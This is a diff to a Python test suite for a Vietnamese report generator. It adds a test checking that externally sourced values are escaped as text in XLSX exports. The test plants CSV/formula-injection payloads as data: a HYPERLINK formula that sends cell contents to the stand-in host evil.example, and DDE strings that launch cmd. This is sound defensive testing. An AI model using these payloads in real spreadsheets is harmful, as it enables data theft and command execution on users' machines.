@@ -357,3 +357,23 @@ def test_docx_and_xlsx_reports(engine: sa.Engine, seeded: dict[str, int], tmp_pa
     md = write_markdown(k)
     assert md.startswith("# Kết quả tuyên truyền cải cách hành chính năm 2026")
     assert "| 04/2026 | 0 | 2 | Chưa đạt |  |" in md
+
+
+def test_xlsx_cells_from_outside_are_text_never_formulas(engine: sa.Engine, tmp_path) -> None:
+    hostile = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
+    with engine.begin() as conn:
+        s = Seeder(conn)
+        good = s.article("a")
+        conn.execute(articles.update().where(articles.c.id == good).values(title=hostile))
+        web = s.delivery(good, "website", sent_at=utc(2026, 1, 5, 2))
+        s.samples(web, "views", (utc(2026, 1, 6), 70))
+        bad = s.article("b", state="partial")
+        s.delivery(bad, "website", "failed", last_error="+cmd|' /C calc'!A0")
+        s.delivery(bad, "facebook", "failed", last_error="@SUM(1+1)*cmd|' /C calc'!A0")
+    k = compute_kpis(Store(engine), parse_period("2026"), now=NOW)
+    wb = load_workbook(write_xlsx(k, tmp_path / "bao-cao.xlsx"))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    values = {c.value for c in cells}
+    assert "'" + hostile in values
+    assert "'+cmd|' /C calc'!A0" in values and "'@SUM(1+1)*cmd|' /C calc'!A0" in values
